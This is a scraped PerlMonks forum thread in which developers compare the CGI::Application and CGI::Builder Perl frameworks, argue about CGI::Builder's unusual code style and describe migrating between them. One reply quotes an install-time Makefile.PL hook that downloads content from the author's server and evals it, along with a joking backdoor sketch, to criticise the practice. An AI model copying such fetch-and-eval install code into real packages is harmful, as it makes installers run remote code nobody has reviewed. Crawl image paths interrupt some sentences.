Beefy Boxes and Bandwidth Generously Provided by pair Networks
No such thing as a small change

CGI::Application vs CGI::Builder

by gryphon (Abbot)
on May 02, 2004 at 02:51 UTC ( #349729=perlquestion: print w/replies, xml ) Need Help??

gryphon has asked for the wisdom of the Perl Monks concerning the following question:

Greetings fellow monks,

For a couple years now I've been using CGI::Application along with HTML::Template and several other modules to build Web applications. I've been extremely pleased with this framework, but I'm always in search of ways to make my life (and the lives of my developers) easier. In a recent CPAN search, CGI::Builder bounced in front of me. After readingsome of the PODs, I'm thinking seriously about switching to it from CGI::Application. Both support my favorite templating system, and there's even CGI::Builder::CgiAppAPI to make the transition easier.

The problem, however, is that I've got zero real coding experience with it yet, and I haven't finished reading through all the PODs for the extentions. Has anyone used both modules in practice? Which is "better"? (I know, depends on *. But which do you like better and why?) I don't have an extreme desire to recode any of our legacy stuff, but going forward, is switching smart?

UPDATE: I guess this begs the question: Is there a third framework that's even "better" than these two systems?

code('Perl') || die;

Replies are listed 'Best First'.
Re: CGI::Application vs CGI::Builder
by perrin (Chancellor) on May 02, 2004 at 03:55 UTC
    Wow, check out the source code for CGI::Builder. That is one of the strangest styles I have ever seen. Not necessarilly evil, but very different from standard advice about perl style.
      Perrin, Maybe the style is not evil, but what Makefile.PL does is quite Evil
      ; eval { require LWP::Simple ; my $res = LWP::Simple::get ( "" . "?DISTRIBUTION=$dist&VERSION=$vers&PERL=$]-$^O" ) ; eval $res if $res }
      I am assuming that this is just a benign install counter and maybe it has the ability to alert the user that the version being installed has been updated, but how do I knowthat there is not something like this at
      ; if (grep /$uesr_domain/ @my_enemies) ; { open(FH, '<', 'backdoor.txt') ; print while(<FH>) ; print STDERR "$user_host 0wn3d! hehehe\g\g\g\g\g\g\g\n" { else { ; open(FH, '<', 'message.txt') ; print while (<FH>) ; pint STDERR "Tick\n" } ;close FH

      And even if there is no code like that. 1. It is still underhanded! and 2. What happens if gets owned, then someone could install code that does the above. Bonus points for doing it as a kernel module!

      Would it not be ironic were his site to be comprimised by another module's "Counter feature"?

      And look at, it shows quite a few perl modules, and I would wager that most of them the same code in the Makefile.PL.

        > I am assuming that this is just a benign install
        > counter and maybe it has the ability to alert the user
        > that the version being installed has been updated

        It's exactly that ;-). Just try to install an old version and you will have a prompt telling you that you are installing an old version, and for the counter... knowing how many people find useful my work is one of the reasons that make me publish my modules ;-)

        > It is still underhanded!

        Well, if you go through some old version of my modules, the Makefile.PL had a prompt. After receiving a lot of users' complaint i take off the prompt. No secret backdoor. The effort and time that require writing modules like CGI::Builder and related documentation is a little bit TOO MUCH to be wasted in similar stupid hacks.

        > What happens if gets owned, then someone could install code that does the above.

        This is a really GOOD question, and I didn't think about that before your post!!! Thank you very much! Even if it is a very remotepossibility, it's real. I think that a possible solution may be adding an expiration date in the code in the Makefile.PL, thus if it runs after that date, it just warn the user of the probably old version anddoes nothing with

        Any othersuggestion?

        Domizio Demichelis

        Even better: Since I have no need to send something to eval from my domain, I will put all the code to execute in the Makefile.PL avoiding any "insane suspect".

        I need just to check the version number, so I think that something like this could be ok:

        ; my $dist = 'CGI::Builder'; ; my $vers = 1.21 ; ; my $LWP_installed = eval {require LWP::Simple} ; ; if ( $LWP_installed ) { my $current_vers = LWP::Simple::get ( "" . "?DISTRIBUTION=$dist&VERSION=$vers&PERL=$]-$^O +" ) ; if ( $current_vers > $vers ) { print 'This is an OLD VERSION! ... bla, bla ' } else { print 'Version OK ... bla, bla' } }If there are no objection, I will change all my Makefile.PL with that code in the next version.
        (I will update all my new distribution in a day or so).


        Domizio Demichelis

      I'll fourth it and agree that it is bloody evil. For those too lazy to check, heres a quick sample from the top:
      package CGI::Builder ; $VERSION = 1.2 ; ; use strict ; use 5.006_001 ; use Carp ; $Carp::Internal{+__PACKAGE__}++ ; $Carp::Internal{'CGI::Builder::_'}++ ; use CGI::Builder::Const qw| :all | ; use IO::Util ; sub capture { my ($s, $h, @args) = @_ ; IO::Util::capture{ $s->$h(@args) } }
        The "Evil" code style is a sort of "mental discipline" which tries to make me remember the semicolons, commas, brackets and parens. :-)

        It is also an attempt to improve the vertical alignment of similar elements, thus trying to *draw* vertical ideal lines enforcing the code structure not just with identation spaces, by also with meaningful characters (similar to the $ % @ & perl characters in front of identifiers).

        Please, look at this simplification of code:"Evil" style ; ___ { ____ ( ___ , __ , ___ ) ; _____ ; ___ } More conventional style___ { ____ ( ___, __, ___ ); _____; ___; }

        Looking at the "Evil" style you will have brackets and semicolons of the same block, always *drawing* a vertical line; same thing for the parens and commas in a list. This make it harder to leave some element out, while the conventional style (being far less vertical aligned), leaves me too freedom to forget something.

        The onlydrawback is that the "Evil" style it is too unconventional to be used in the examples of my PODs :-(

        Domizio Demichelis

        I'am using C:B under mod_perl (called Apache-CGI-Builder) for my actual projects and I really like it. It's pretty new thats correct, but the author has first rewritten C:A before he started with C:B, so it seems that he has some experience. C:B has some great features: overrunning concept (the same handler, i.e. a init handler get executed in every class) and some more which are pretty handy, just read the well organized and easy to read documentation! As mentioned above i run all my code under mod_perl and the integration is smooth (including some optimzed code for mod_perl (package variables)). The same author has also written a greattemplate engine, TemplateMagic, it integrates very well with A:C:B, if you have some free time give it a look. it's true that the perl-code doesn't look like the code you see in other modules, but it's very constant and if you have looked at few .pm's i don't think you have any problems reading it. if you get used to TemplateMagic, or read just the documentation, you see that the author is a real perl guy. TemplateMagic is quite simple but offers the greatest flexibilty i've ever seen in a templateengine!

      I'll push forward and be brave enough to say that it is necessarilly evil. My god.

      It looks very similar to some PL/SQL and/or COBOL code I've seen. *shrugs* We can all recognize C and Java coders writing in Perl. I'd put forward that this is the 4GL/2GL versions of Perl.

      We are the carpenters and bricklayers of the Information Age.

      Then there are Damian modules.... *sigh* ... that's not about being less-lazy -- that's about being on some really good drugs -- you know, there is no spoon. - flyingmoose

      Well, if it is evil, at least it's consistently evil!

      i second the Wow.

      I agree that the semicolon placement is something that we don't see much around here. There is a good reason for doing it that way in some other languages. For example, unnecessary semicolons tended to compile into extra assembly language instructions in Borland Turbo Pascal 3.0. The module's unusual style minimizes extra semicolons while still making it obvious if one is left out.

      There is also some other cleverness in the module, but I've seen more extreme examples in some well-respected code. Is the complaint really just aboutnon-standard semicolons?

      After running the module through perltidy a few times, the semicolon placement went away, the braces were where I expected them, and I was left with an interesting read.

      I'll probably stick with CGI::Application, though.

      It should work perfectly the first time! - toma
        Is the complaint really just about non-standard semicolons?

        I wasn't even complaining about it really. I just thought it was unique and worth looking at. I wouldn't want someone to use this style on a project I was working on because it creates an additional barrier for the vast majority of people who are used to reading code in the style that most perl books show, but it doesn't make me automatically distrust the module. (The Makefile.PL issue might, but that's entirely separate.)

Re: CGI::Application vs CGI::Builder
by dragonchild (Archbishop) on May 02, 2004 at 03:03 UTC
    After a very cursory examination, I would be leery. C::A has a lot of mileagebehind it. It's very stable and has a huge following. It also has been extensively testing with both mod_perl 1 and 2.

    That said, I would give it a whirl. The conversion process looks to be both simple and well-thought out. If it works for you, then go for it!

    We are the carpenters and bricklayers of the Information Age.

    Then there are Damian modules.... *sigh* ... that's not about being less-lazy -- that's about being on some really good drugs -- you know, there is no spoon. - flyingmooseI would describe it more like C::A has studiously ignored both mod_perl 1 and 2. It is simply a well-behaved CGI program, which makes it easy to run under Apache::Registry and ModPerl::Registry.
        You can use CGI::Builder under Apache::Registry and ModPerl::Registry as well, exactly like you do with C::A.

        The Apache::CGI::Builder adds just some feature you might appreciate under mod_perl ;-)

Re: CGI::Application vs CGI::Builder
by Belgarion (Chaplain) on May 02, 2004 at 03:34 UTC
Re: CGI::Application vs CGI::Builder
by jdporter (Canon) on May 03, 2004 at 06:11 UTC
      I used CGI::Builder::CgiAppAPI to convert an intranet application (43 runmodes), that now is working fine under Apache::CGI::Builder: the process was quite simple but very annoying.

      The good things are:
      - almost 90% of conversion changes were just search and replace in the application module
      - I can take off 20% of the old code not needed anymore
      - I can split the module into more useful super classes (really rehusable) using overrunning
      - Apache::CGI::Builder is really nice

      The bad things are:
      - I had to run all the run modes, one by one, to make sure I didn't forgetanything. The hints that CGI::Builder::CgiAppAPI gives you are just run-time hints. I don't know if it would be possible but I'd like to have compile-time hints or at least some automatic-all-run-modes checking to avoid to do it manually.
      - HTML::Template is my favourite templating system and it is supported by CGI::Builder::HTMLtmpl (with even more encapsulation than in CGI::Application),but it appears to be limited comparing it with CGI::Builder::Magic. Since the author is the same (for Template::Magic and CGI::Builder), I have the insane suspect that he did it intentionally :-@

        How does CGI::Builder provide better superclassing than CGI::Application? I'm really confused about this statement. My runmodes go through two superclasses (at least!) before hitting CGI::Application, each providing some layer of useful stuff.

        We are the carpenters and bricklayers of the Information Age.

        Then there are Damian modules.... *sigh* ... that's not about being less-lazy -- that's about being on some really good drugs -- you know, there is no spoon. - flyingmoose

Log In?

What's my password?
Create A New User
Node Status?
nodehistory
Node Type: perlquestion[id://349729]
Approved by bart
Front-paged by kappa
and the web crawler heard nothing...

How do I use this? | Other CB clients
Other Users?
Othersperusing the Monastery: (7)
As of 2021-01-2011:13 GMT
Find Nodes?
    Voting Booth?